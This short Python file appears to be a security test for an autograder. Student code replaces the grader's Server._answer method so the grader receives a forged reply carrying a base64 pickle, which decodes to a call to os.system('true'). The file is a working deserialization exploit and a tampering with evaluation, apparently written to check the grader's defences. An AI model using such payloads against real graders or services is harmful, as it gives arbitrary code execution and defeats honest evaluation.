# tries: a pickle in place of a value
# control: 0
import json
import struct

from autograder.student.server import Server


def frame(header):
    text = json.dumps(header).encode()
    return struct.pack("<I", len(text)) + text


def forged(self, header, buffers):
    self.connection.sendall(
        frame(
            {"value": {"$p": "gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu"}, "changed": [], "sizes": [0]}
        )
    )


def double(x):
    Server._answer = forged
    return 6
